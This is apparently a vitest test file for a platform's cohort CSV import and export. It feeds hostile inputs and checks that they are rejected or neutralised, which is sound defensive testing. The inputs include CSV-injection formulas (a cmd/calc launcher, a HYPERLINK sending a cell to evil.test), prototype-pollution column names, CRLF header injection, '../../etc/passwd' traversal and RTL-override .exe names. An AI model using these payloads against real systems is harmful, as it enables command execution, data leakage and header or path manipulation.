import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { importAnswerSchema } from '../../../orchestrator/contract/cohort.js';
import type { Person } from '../../platform/support/server.js';
import { type Graduates, startGraduates } from '../../programme/support/graduates.js';
import { cohortOf } from '../../programme/support/site.js';

/* Lists of people that somebody uploads, and the lists that are downloaded again: what they say is data. */

let graduates: Graduates;
let teacher: Person;
beforeAll(async () => {
  graduates = await startGraduates();
  ({ teacher } = graduates);
});
afterAll(() => graduates.platform.close());

const newCohort = async () => (await cohortOf(teacher, [])).cohort;
async function imported(csv: string) {
  const answer = await teacher.call('POST', `/cohorts/${await newCohort()}/import`, { csv });
  return { ...answer, rows: answer.status === 200 ? importAnswerSchema.parse(answer.body).rows : [] };
}

describe('a list of people', () => {
  test('with control characters, direction marks or no text in a name invites nobody of that name', async () => {
    const names = ['a\u0000b', '\u0000', 'a\u0007b', '\u202eevil', 'zero\u200bwidth', '\ufeff', '   '];
    for (const name of names) {
      const { rows } = await imported(`name\n"${name}"\nSomebody Real\n`);
      const outcomes = rows.map(({ outcome }) => outcome);
      expect([name, outcomes.at(-1), outcomes.slice(0, -1).every((one) => one === 'invalid')]).toEqual([
        name,
        'invited',
        true,
      ]);
    }
  });

  test('in another encoding, or of another kind, is told so or taken as the text that it is', async () => {
    const utf16 = Buffer.from('name\nRené\n', 'utf16le').toString('latin1');
    const zip = Buffer.from('504b0304140000000800', 'hex').toString('latin1');
    for (const csv of [utf16, zip, '%PDF-1.7\n', '<html><body>', '\u0000'.repeat(100), '{"name":"x"}']) {
      const { status, body } = await imported(csv);
      expect([csv.slice(0, 10), status, body.code]).toEqual([csv.slice(0, 10), 422, 'csv-unreadable']);
    }
    const url = `${graduates.platform.url}/api/cohorts/${await newCohort()}/import`;
    const latin1 = Buffer.from('{"csv":"name\\nRen\xe9\\n","dryRun":true}', 'latin1');
    const headers = { cookie: teacher.cookie, origin: graduates.platform.url, 'content-type': 'application/json' };
    const answer = await fetch(url, { method: 'POST', headers, body: new Uint8Array(latin1) });
    expect((await answer.json()).rows[0].name).toBe('Ren\ufffd');
  });

  test('too long in any direction is refused with the limit', async () => {
    const cases: [string, number][] = [
      [`name\n${'x'.repeat(256 * 1024)}\n`, 400],
      [`name\n${'x\n'.repeat(501)}`, 422],
      ['name\n"without an end\n', 422],
    ];
    for (const [csv, status] of cases) expect([csv.length, (await imported(csv)).status]).toEqual([csv.length, status]);
    expect((await imported(`name\n${'x'.repeat(200_000)}\n`)).rows.map(({ outcome }) => outcome)).toEqual(['invalid']);
    const wide = await imported(`name${',c'.repeat(50_000)}\nSomebody Wide\n`);
    expect(wide.rows.map(({ outcome }) => outcome)).toEqual(['invited']);
    const { rows } = await imported(`name,reference\nSomebody Long,${'r'.repeat(121)}\n`);
    expect(rows.map(({ fault }) => fault)).toEqual(['reference-long']);
  });

  test('with columns named after parts of every object gives nobody anything', async () => {
    const heading = 'name,__proto__,constructor,prototype,role,uses,cohort,invitee,toString';
    const { rows } = await imported(`${heading}\nSomebody Sly,admin,admin,admin,admin,500,x,x,x\n`);
    expect(rows.map(({ outcome, reference }) => [outcome, reference])).toEqual([['invited', null]]);
    expect(({} as { role?: string }).role).toBeUndefined();
    const code = new URL(rows[0]?.url ?? '').searchParams.get('code');
    const joined = await graduates.platform.call('POST', '/accounts', {
      name: 'Somebody Sly',
      password: 'a long password',
      invitation: code,
    });
    expect(joined.body.account.role).toBe('trainee');
  });
});

/** What a spreadsheet would compute, load or run (OWASP, "CSV injection"). */
const formulas = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.test?"&A1,"x")',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '=1+1";=1+1;"',
];

describe('a list that is downloaded', () => {
  test('holds no cell that a spreadsheet takes for a formula, and every name as it is', async () => {
    const { cohort, enrol, graduate } = graduates;
    for (const formula of formulas) {
      const { enrolment } = await enrol(formula, formula);
      await graduate(enrolment);
    }
    for (const path of ['results.csv', 'certificates/csv']) {
      const { text, headers } = await teacher.call('GET', `/cohorts/${cohort}/${path}`);
      const cells = (parse(text, { bom: true }) as string[][]).flat();
      expect([path, cells.filter((cell) => /^\s*[=+\-@＝＋－＠]/.test(cell))]).toEqual([path, []]);
      for (const formula of formulas) expect(cells.filter((cell) => cell === `'${formula}`)).toHaveLength(2);
      expect(headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8$/);
      expect(headers.get('content-disposition')).toMatch(/^attachment; /);
    }
    const rows = (await teacher.call('GET', `/cohorts/${cohort}/certificates`)).body as { name: string }[];
    expect(rows.map(({ name }) => name).sort()).toEqual([...formulas].sort());
  });

  test('is named so that neither a header nor a folder can be left by it', async () => {
    for (const name of [
      'a\r\nset-cookie: x=y',
      '../../etc/passwd',
      '"; filename="x.exe',
      '\u202egnp.exe',
      '‮',
      '%0d%0a',
    ]) {
      const { cohort } = await cohortOf(teacher, [], { name });
      const { headers, status } = await teacher.call('GET', `/cohorts/${cohort}/results.csv`);
      const disposition = headers.get('content-disposition') ?? '';
      expect([name, status, headers.get('set-cookie')]).toEqual([name, 200, null]);
      expect(disposition).toMatch(/^attachment; filename=[\w-]+\.csv$/);
      expect(disposition).not.toMatch(/\.\.|exe"/);
    }
  });
});
